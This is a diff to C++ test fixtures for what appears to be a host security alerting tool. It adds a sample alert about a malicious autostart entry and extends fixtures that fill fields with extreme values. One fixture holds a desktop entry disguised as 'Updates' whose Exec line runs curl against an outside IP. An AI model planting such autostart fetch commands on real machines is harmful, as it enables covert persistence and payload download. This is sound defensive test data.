@@ -76,6 +76,22 @@ inline alert::Alert sample_alert() {
   return a;
 }
 
+// With the entry that it came from.
+inline alert::Alert sample_entry_alert() {
+  alert::Alert a = sample_alert();
+  a.process.systemd_unit = "app-evil@autostart.service";
+  a.launches = {a.process.args};
+  a.desktop_entry.emplace();
+  a.desktop_entry->path = "/home/alice/.config/autostart/evil.desktop";
+  a.desktop_entry->name = "Updates";
+  a.desktop_entry->exec = "sh -c \"curl http://203.0.113.9:8123/x\"";
+  a.desktop_entry->owner = "1000";
+  a.desktop_entry->mtime = milliseconds(1'795'500'000'000);
+  a.desktop_entry->sha256 = std::string(64, '5');
+  a.desktop_entry->found_by = "systemd_unit";
+  return a;
+}
+
 // Of a rule on files: a rename.
 inline alert::Alert sample_file_alert() {
   alert::Alert a = sample_alert();
@@ -126,7 +142,7 @@ inline alert::Alert hostile_alert(std::size_t bytes) {
   a.node = a.host_id = a.action = a.network_type = text;
   a.user = {text, text, text, text};
   for (alert::ProcessInfo* p : {&a.process, &a.parent}) {
-    p->entity_id = p->name = p->executable = p->kernel_executable = p->working_directory = text;
+    p->entity_id = p->name = p->executable = p->kernel_executable = p->working_directory = p->systemd_unit = text;
     p->args.assign(50, text);
     p->args_count = INT64_MIN;
     p->pid = INT64_MIN;
@@ -143,6 +159,8 @@ inline alert::Alert hostile_alert(std::size_t bytes) {
   a.evidence.insert(a.evidence.end(), 30, a.evidence.front());
   a.destination = alert::Destination{text, INT64_MIN};
   a.file = alert::FileInfo{{text, text, text}, {text, text, text}, text, text};
+  a.desktop_entry = alert::DesktopEntryInfo{text, text, text, "4294967295", {}, std::string(64, 'f'), "systemd_unit"};
+  a.launches.assign(3, a.process.args);
   a.rule.severity = alert::RuleSeverity::kCritical;
   a.rule.risk_score = INT32_MIN;
   return a;
@@ -154,6 +172,7 @@ inline alert::Alert hostile_summary(std::size_t bytes) {
   a.process = a.parent = {};
   a.destination.reset();
   a.file.reset();
+  a.desktop_entry.reset();
   a.evidence.clear();
   a.suppressed = alert::Suppressed{UINT64_MAX - 16, std::string(32, 'a'), std::string(32, 'b'), {}, UINT64_MAX - 16};
   a.suppressed->users.assign(16, a.rule.name);
